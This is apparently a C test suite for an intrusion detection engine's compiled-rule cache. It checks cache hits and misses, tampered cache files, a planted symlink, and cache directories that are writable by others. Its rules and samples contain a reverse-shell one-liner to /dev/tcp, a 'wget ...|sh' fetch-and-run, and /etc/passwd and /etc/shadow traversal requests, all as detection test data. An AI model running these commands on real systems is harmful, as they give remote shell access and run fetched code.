// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/*
 * The compiled-database cache: the second load is a hit and matches exactly as the first;
 * a changed content misses; a changed msg (not part of the database) still hits; a
 * damaged cache file is recompiled; an unusable cache directory only costs the cache.
 * A local attacker: a database from other rules under our key is detected; a symlink at
 * the temporary name is not written through; a directory or file that another user owns
 * or could write is not used (and said so, naming it).
 */
#include <dirent.h>
#include <fcntl.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

#include "../support/test.h"
#include "../rules/rules_test.h"

#define RULES_V1                                                                                \
	"alert http any any -> any any (msg:\"traversal\"; http.uri; content:\"/etc/passwd\"; "  \
	"sid:1;)\n"                                                                            \
	"alert tcp any any -> any any (msg:\"reverse shell\"; pcre:\"/bash\\s+-i\\s+>&/\"; "    \
	"sid:2;)\n"                                                                            \
	"alert tcp any any -> any any (msg:\"no prefilter\"; content:!\"HTTP\"; dsize:<8; "     \
	"sid:3;)\n"                                                                            \
	"alert tcp any any -> any any (msg:\"wget\"; content:\"wget \"; nocase; "                \
	"content:\"|7c|sh\"; distance:0; sid:4;)\n"

static const char *const samples[] = {
	"GET /a/..//etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n",
	"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
	"ping",
	"WGET http://x/y.sh|sh",
	"nothing to see here, nothing at all",
};

static char cache_dir[] = "/tmp/edgewatch-rules-cache-XXXXXX";

static size_t count_cache_files(void)
{
	DIR *dir = opendir(cache_dir);
	struct dirent *entry;
	size_t n = 0;

	if (!dir)
		return 0;
	while ((entry = readdir(dir)))
		n += strncmp(entry->d_name, "rules-", 6) == 0;
	closedir(dir);
	return n;
}

/* The sids each sample raises, as one string per sample. */
static int scan_all(const struct ruleset *rs, char results[][64])
{
	size_t i;

	for (i = 0; i < sizeof(samples) / sizeof(samples[0]); i++) {
		struct scan_input in = test_input(samples[i]);
		struct test_matches matches;

		if (test_scan(rs, &in, &matches))
			return -1;
		test_sids_text(&matches, results[i], 64);
	}
	return 0;
}

static void test_second_load_hits(struct test_case *t)
{
	char first[5][64], second[5][64];
	struct rules_report report1, report2;
	struct ruleset *rs1 = NULL, *rs2 = NULL;
	size_t i;

	CHECK(t, test_load_text(RULES_V1, &rs1, &report1, cache_dir) == 0, "first load");
	EXPECT(t, !report1.cache_hit, "first load cannot hit");
	EXPECT(t, count_cache_files() == 1, "%zu cache files after the first load",
	       count_cache_files());
	EXPECT(t, test_load_text(RULES_V1, &rs2, &report2, cache_dir) == 0, "second load");
	EXPECT(t, report2.cache_hit, "second load missed the cache");
	EXPECT(t, report2.no_prefilter == report1.no_prefilter && report2.no_prefilter == 1,
	       "no_prefilter %zu vs %zu", report2.no_prefilter, report1.no_prefilter);
	if (rs1 && rs2) {
		EXPECT(t, scan_all(rs1, first) == 0 && scan_all(rs2, second) == 0, "scans");
		for (i = 0; i < 5; i++)
			EXPECT(t, strcmp(first[i], second[i]) == 0, "sample %zu: %s vs %s", i, first[i],
			       second[i]);
		EXPECT(t, !strcmp(first[0], "1") && !strcmp(first[1], "2") &&
				  !strcmp(first[2], "3") && !strcmp(first[3], "4") &&
				  !strcmp(first[4], "none"),
		       "expected matches: %s %s %s %s %s", first[0], first[1], first[2], first[3],
		       first[4]);
	}
	ruleset_free(rs1);
	ruleset_free(rs2);
	rules_report_free(&report1);
	rules_report_free(&report2);
}

static void test_changed_content_misses(struct test_case *t)
{
	struct rules_report report;
	struct ruleset *rs = NULL;
	struct test_matches matches;
	struct scan_input in = test_input("GET /etc/shadow HTTP/1.1\r\n\r\n");
	char *changed = strdup(RULES_V1), *at;

	CHECK(t, changed, "strdup");
	at = strstr(changed, "/etc/passwd");
	memcpy(at, "/etc/shadow", 11);
	EXPECT(t, test_load_text(changed, &rs, &report, cache_dir) == 0, "load");
	EXPECT(t, !report.cache_hit, "a changed content must miss the cache");
	EXPECT(t, count_cache_files() == 2, "%zu cache files", count_cache_files());
	EXPECT(t, rs && test_scan(rs, &in, &matches) == 0 && matches.count == 1 &&
			  matches.sids[0] == 1,
	       "the new content matches");
	ruleset_free(rs);
	rules_report_free(&report);
	free(changed);
}

static void test_changed_msg_hits(struct test_case *t)
{
	struct rules_report report;
	struct ruleset *rs = NULL;
	char *changed = strdup(RULES_V1), *at;

	CHECK(t, changed, "strdup");
	at = strstr(changed, "traversal");
	memcpy(at, "TRAVERSAL", 9);
	EXPECT(t, test_load_text(changed, &rs, &report, cache_dir) == 0, "load");
	EXPECT(t, report.cache_hit, "msg is not part of the database: should hit");
	EXPECT(t, rs && !strcmp(ruleset_rule(rs, 0)->msg, "TRAVERSAL"), "new msg");
	ruleset_free(rs);
	rules_report_free(&report);
	free(changed);
}

static void test_damaged_cache_recompiles(struct test_case *t)
{
	struct rules_report report;
	struct ruleset *rs = NULL;
	char results[5][64];
	struct dirent *entry;
	char path[512] = "";
	DIR *dir = opendir(cache_dir);
	FILE *file;

	CHECK(t, dir, "opendir");
	/* damage every cache file: keep the header, cut the database short */
	while ((entry = readdir(dir))) {
		if (strncmp(entry->d_name, "rules-", 6) != 0)
			continue;
		snprintf(path, sizeof(path), "%s/%s", cache_dir, entry->d_name);
		EXPECT(t, truncate(path, 60) == 0, "truncate %s", path);
	}
	closedir(dir);
	EXPECT(t, test_load_text(RULES_V1, &rs, &report, cache_dir) == 0, "load");
	EXPECT(t, !report.cache_hit, "a damaged file is not a hit");
	EXPECT(t, rs && scan_all(rs, results) == 0 && !strcmp(results[1], "2"), "recompiled works");
	ruleset_free(rs);
	rules_report_free(&report);
	/* and the recompile rewrote it */
	EXPECT(t, test_load_text(RULES_V1, &rs, &report, cache_dir) == 0 && report.cache_hit,
	       "rewritten cache should hit");
	file = fopen(path, "rb");
	EXPECT(t, file != NULL, "cache file back");
	if (file)
		fclose(file);
	ruleset_free(rs);
	rules_report_free(&report);
}

/* A fresh cache directory of our own (mode 0700, from mkdtemp). */
static int fresh_dir(char *dir, size_t size)
{
	snprintf(dir, size, "/tmp/edgewatch-cache-t-XXXXXX");
	return mkdtemp(dir) ? 0 : -1;
}

static void remove_dir(const char *dir)
{
	DIR *d = opendir(dir);
	struct dirent *entry;
	char path[512];

	if (!d)
		return;
	while ((entry = readdir(d))) {
		if (entry->d_name[0] == '.')
			continue;
		snprintf(path, sizeof(path), "%s/%s", dir, entry->d_name);
		unlink(path);
	}
	closedir(d);
	rmdir(dir);
}

/* The one rules-*.hsdb file in dir (its full path), 0; -1 when not exactly one. */
static int only_cache_file(const char *dir, char *path, size_t size)
{
	DIR *d = opendir(dir);
	struct dirent *entry;
	int found = 0;

	if (!d)
		return -1;
	while ((entry = readdir(d))) {
		if (strncmp(entry->d_name, "rules-", 6) || !strstr(entry->d_name, ".hsdb"))
			continue;
		snprintf(path, size, "%s/%s", dir, entry->d_name);
		found++;
	}
	closedir(d);
	return found == 1 ? 0 : -1;
}

static size_t files_in(const char *dir)
{
	DIR *d = opendir(dir);
	struct dirent *entry;
	size_t n = 0;

	if (!d)
		return 0;
	while ((entry = readdir(d)))
		n += entry->d_name[0] != '.';
	closedir(d);
	return n;
}

static int read_bytes(const char *path, char *buf, size_t size, size_t *len)
{
	int fd = open(path, O_RDONLY);
	ssize_t n;

	if (fd < 0)
		return -1;
	n = read(fd, buf, size);
	close(fd);
	if (n < 0)
		return -1;
	*len = (size_t)n;
	return 0;
}

/* Load text with cache_dir, stderr (the warnings) captured into err_text. */
static int load_capturing(const char *text, struct ruleset **rs, struct rules_report *report,
			  const char *dir, char *err_text, size_t err_size)
{
	char err_path[] = "/tmp/edgewatch-cache-err-XXXXXX";
	int err_fd = mkstemp(err_path), saved = dup(2), ret;
	ssize_t n;

	if (err_fd < 0 || saved < 0)
		return -1;
	fflush(stderr);
	dup2(err_fd, 2);
	ret = test_load_text(text, rs, report, dir);
	fflush(stderr);
	dup2(saved, 2);
	close(saved);
	lseek(err_fd, 0, SEEK_SET);
	n = read(err_fd, err_text, err_size - 1);
	err_text[n > 0 ? n : 0] = '\0';
	close(err_fd);
	unlink(err_path);
	return ret;
}

static char *shadow_rules(void)
{
	char *changed = strdup(RULES_V1);

	if (changed)
		memcpy(strstr(changed, "/etc/passwd"), "/etc/shadow", 11);
	return changed;
}

/*
 * The attack: the database of other rules, its header's key rewritten to ours. Same ids
 * (one expression per rule, in the same places), so only the content can tell.
 */
static void test_tampered_key_recompiles(struct test_case *t)
{
	char dir[64], v1_path[512], shadow_path[512], v1[1 << 16], shadow[1 << 16], log[2048];
	struct scan_input in = test_input("GET /etc/shadow HTTP/1.1\r\n\r\n");
	char *changed = shadow_rules();
	struct test_matches matches;
	struct rules_report report;
	struct ruleset *rs = NULL;
	size_t v1_len, shadow_len;
	FILE *file;

	CHECK(t, changed && fresh_dir(dir, sizeof(dir)) == 0, "setup");
	CHECK(t, test_load_text(RULES_V1, &rs, &report, dir) == 0, "v1 load");
	ruleset_free(rs);
	rules_report_free(&report);
	CHECK(t, only_cache_file(dir, v1_path, sizeof(v1_path)) == 0, "v1 cache file");
	CHECK(t, read_bytes(v1_path, v1, sizeof(v1), &v1_len) == 0 && v1_len > 40, "read v1");
	unlink(v1_path);
	CHECK(t, test_load_text(changed, &rs, &report, dir) == 0, "shadow load");
	ruleset_free(rs);
	rules_report_free(&report);
	CHECK(t, only_cache_file(dir, shadow_path, sizeof(shadow_path)) == 0, "shadow file");
	CHECK(t, read_bytes(shadow_path, shadow, sizeof(shadow), &shadow_len) == 0, "read");
	/* v1's database under the shadow rules' key */
	memcpy(v1 + 8, shadow + 8, 32);
	file = fopen(shadow_path, "wb");
	CHECK(t, file && fwrite(v1, 1, v1_len, file) == v1_len && fclose(file) == 0, "rewrite");

	CHECK(t, load_capturing(changed, &rs, &report, dir, log, sizeof(log)) == 0, "load");
	EXPECT(t, !report.cache_hit, "a database compiled from other rules was loaded as valid");
	EXPECT(t, strstr(log, shadow_path) && strstr(log, "not compiled from these rules"),
	       "warning: %s", log);
	EXPECT(t, rs && test_scan(rs, &in, &matches) == 0 && matches.count == 1 &&
			  matches.sids[0] == 1,
	       "the rule must not be silently dead");
	ruleset_free(rs);
	rules_report_free(&report);
	/* the recompile replaced it: the next load hits */
	EXPECT(t, test_load_text(changed, &rs, &report, dir) == 0 && report.cache_hit,
	       "rewritten file should hit");
	ruleset_free(rs);
	rules_report_free(&report);
	free(changed);
	remove_dir(dir);
}

/* rules-KEY.hsdb.tmp.PID planted as a symlink: root must not write through it. */
static void test_planted_symlink_not_followed(struct test_case *t)
{
	char dir[64], path[512], tmp[600], victim[] = "/tmp/edgewatch-victim-XXXXXX", back[64];
	static const char precious[] = "precious\n";
	struct rules_report report;
	struct ruleset *rs = NULL;
	struct stat st;
	size_t len = 0;
	int fd;

	CHECK(t, fresh_dir(dir, sizeof(dir)) == 0, "setup");
	fd = mkstemp(victim);
	CHECK(t, fd >= 0 && write(fd, precious, sizeof(precious) - 1) == sizeof(precious) - 1,
	      "victim");
	close(fd);
	CHECK(t, test_load_text(RULES_V1, &rs, &report, dir) == 0, "first load");
	ruleset_free(rs);
	rules_report_free(&report);
	CHECK(t, only_cache_file(dir, path, sizeof(path)) == 0, "cache file");
	unlink(path);
	snprintf(tmp, sizeof(tmp), "%s.tmp.%d", path, (int)getpid());
	CHECK(t, symlink(victim, tmp) == 0, "plant %s", tmp);

	EXPECT(t, test_load_text(RULES_V1, &rs, &report, dir) == 0 && rs, "load");
	EXPECT(t, read_bytes(victim, back, sizeof(back), &len) == 0 && len == strlen(precious) &&
			  !memcmp(back, precious, len),
	       "the symlink's target was written: %zu bytes", len);
	EXPECT(t, lstat(path, &st) == 0 && S_ISREG(st.st_mode), "the cache file is a file");
	EXPECT(t, lstat(tmp, &st) != 0, "the planted name is gone");
	ruleset_free(rs);
	rules_report_free(&report);
	unlink(victim);
	unlink(tmp);
	remove_dir(dir);
}

/* Load twice from dir: neither may hit nor leave a file; the warning names dir and why. */
static void expect_refused(struct test_case *t, const char *dir, const char *why)
{
	struct rules_report report;
	struct ruleset *rs = NULL;
	char log[2048];
	int round;

	for (round = 0; round < 2; round++) {
		EXPECT(t, load_capturing(RULES_V1, &rs, &report, dir, log, sizeof(log)) == 0 && rs,
		       "a refused cache must not fail the load");
		EXPECT(t, !report.cache_hit, "round %d: hit in a refused directory", round);
		EXPECT(t, strstr(log, dir) && strstr(log, why) && strstr(log, "not used"),
		       "round %d: warning '%s' should name %s and '%s'", round, log, dir, why);
		ruleset_free(rs);
		rules_report_free(&report);
	}
	EXPECT(t, files_in(dir) == 0, "%zu files written into a refused directory", files_in(dir));
}

static void test_writable_cache_dir_refused(struct test_case *t)
{
	char dir[64];

	CHECK(t, fresh_dir(dir, sizeof(dir)) == 0 && chmod(dir, 0777) == 0, "setup");
	expect_refused(t, dir, "group- or world-writable (mode 0777)");
	CHECK(t, chmod(dir, 0770) == 0, "chmod");
	expect_refused(t, dir, "group- or world-writable (mode 0770)");
	remove_dir(dir);
}

static void test_writable_cache_file_refused(struct test_case *t)
{
	char dir[64], path[512], log[2048];
	struct rules_report report;
	struct ruleset *rs = NULL;

	CHECK(t, fresh_dir(dir, sizeof(dir)) == 0, "setup");
	CHECK(t, test_load_text(RULES_V1, &rs, &report, dir) == 0, "first load");
	ruleset_free(rs);
	rules_report_free(&report);
	CHECK(t, only_cache_file(dir, path, sizeof(path)) == 0 && chmod(path, 0666) == 0, "chmod");
	EXPECT(t, load_capturing(RULES_V1, &rs, &report, dir, log, sizeof(log)) == 0 && rs,
	       "load");
	EXPECT(t, !report.cache_hit, "a world-writable cache file was used");
	EXPECT(t, strstr(log, path) && strstr(log, "group- or world-writable"), "warning '%s'",
	       log);
	ruleset_free(rs);
	rules_report_free(&report);
	remove_dir(dir);
}

/* Another user's directory or file: made so by chown, which needs root. */
static void test_foreign_owner_refused(struct test_case *t)
{
	const uid_t nobody = 65534;
	char dir[64], path[512], log[2048], why[64];
	struct rules_report report;
	struct ruleset *rs = NULL;

	if (geteuid() != 0)
		SKIP(t, "chown to another user needs root");
	CHECK(t, fresh_dir(dir, sizeof(dir)) == 0, "setup");
	/* a file of another user in our own directory */
	CHECK(t, test_load_text(RULES_V1, &rs, &report, dir) == 0, "first load");
	ruleset_free(rs);
	rules_report_free(&report);
	CHECK(t, only_cache_file(dir, path, sizeof(path)) == 0 && chown(path, nobody, nobody) == 0,
	      "chown file");
	EXPECT(t, load_capturing(RULES_V1, &rs, &report, dir, log, sizeof(log)) == 0 && rs,
	       "load");
	EXPECT(t, !report.cache_hit, "a cache file of uid %u was used", (unsigned int)nobody);
	EXPECT(t, strstr(log, path) && strstr(log, "owned by another user"), "warning '%s'", log);
	ruleset_free(rs);
	rules_report_free(&report);
	remove_dir(dir);
	/* a directory of another user */
	CHECK(t, fresh_dir(dir, sizeof(dir)) == 0 && chown(dir, nobody, nobody) == 0, "chown dir");
	snprintf(why, sizeof(why), "owned by uid %u", (unsigned int)nobody);
	expect_refused(t, dir, why);
	remove_dir(dir);
}

static void test_unusable_cache_dir(struct test_case *t)
{
	struct rules_report report;
	struct ruleset *rs = NULL;

	/* a directory below a regular file cannot exist: the load goes on without a cache */
	EXPECT(t, test_load_text(RULES_V1, &rs, &report, "/etc/hostname/cache") == 0 && rs,
	       "load must not fail because of the cache");
	EXPECT(t, !report.cache_hit, "no hit");
	ruleset_free(rs);
	rules_report_free(&report);
}

/*
 * Each buffer has its own database: a prefilter that moves to another buffer (same bytes,
 * same rule index) is a different database, so its key must differ. A clean miss, not a
 * file found under the same key and refused as invalid; and the moved rule matches.
 */
static void test_moved_buffer_misses(struct test_case *t)
{
	static const char uri_rules[] =
		"alert http any any -> any any (msg:\"m\"; http.uri; content:\"zq-probe-mark\"; sid:1;)\n";
	static const char header_rules[] =
		"alert http any any -> any any (msg:\"m\"; http.header; content:\"zq-probe-mark\"; "
		"sid:1;)\n";
	struct scan_input in = test_input("GET / HTTP/1.1\r\nX-Probe: zq-probe-mark\r\n\r\n");
	struct test_matches matches;
	struct rules_report report;
	struct ruleset *rs = NULL;
	char dir[64], log[2048];

	CHECK(t, fresh_dir(dir, sizeof(dir)) == 0, "setup");
	CHECK(t, test_load_text(uri_rules, &rs, &report, dir) == 0, "http.uri load");
	ruleset_free(rs);
	rules_report_free(&report);
	CHECK(t, load_capturing(header_rules, &rs, &report, dir, log, sizeof(log)) == 0,
	      "http.header load");
	EXPECT(t, !report.cache_hit, "the http.uri database was taken for an http.header rule");
	EXPECT(t, log[0] == '\0', "a key miss should be silent, got: %s", log);
	EXPECT(t, rs && test_scan(rs, &in, &matches) == 0 && matches.count == 1 &&
			  matches.sids[0] == 1,
	       "the moved rule must match in its header");
	ruleset_free(rs);
	rules_report_free(&report);
	remove_dir(dir);
}

int main(void)
{
	test_program = "test_rules_cache";
	if (!mkdtemp(cache_dir)) {
		printf("FAIL test_rules_cache/setup: mkdtemp\n");
		return 1;
	}
	RUN(test_second_load_hits);
	RUN(test_changed_content_misses);
	RUN(test_changed_msg_hits);
	RUN(test_damaged_cache_recompiles);
	RUN(test_unusable_cache_dir);
	RUN(test_tampered_key_recompiles);
	RUN(test_planted_symlink_not_followed);
	RUN(test_writable_cache_dir_refused);
	RUN(test_writable_cache_file_refused);
	RUN(test_foreign_owner_refused);
	RUN(test_moved_buffer_misses);
	remove_dir(cache_dir);
	return test_summary();
}
